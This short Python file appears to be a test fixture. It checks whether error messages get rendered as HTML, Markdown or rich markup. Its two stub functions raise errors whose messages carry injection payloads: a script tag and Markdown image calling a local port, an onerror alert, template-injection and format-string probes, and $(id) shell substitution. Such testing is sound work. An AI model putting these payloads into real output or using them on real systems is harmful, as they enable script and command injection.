# tries: to be taken for HTML, Markdown, rich's markup or an image of a page elsewhere
# points: 0
# harm: text, network


def encode(text, idx2char):
    raise ValueError("</td></table><script src=//127.0.0.1:@PORT@/></script><img src=x onerror=alert(1)> ![x](http://127.0.0.1:@PORT@)")


def one_hot(indices, num_classes):
    raise ValueError("[bold red]15/15[/] [link=http://127.0.0.1:@PORT@]x[/link] :smile: {{ 7*7 }} ${7*7} $(id) `id` %s %n")
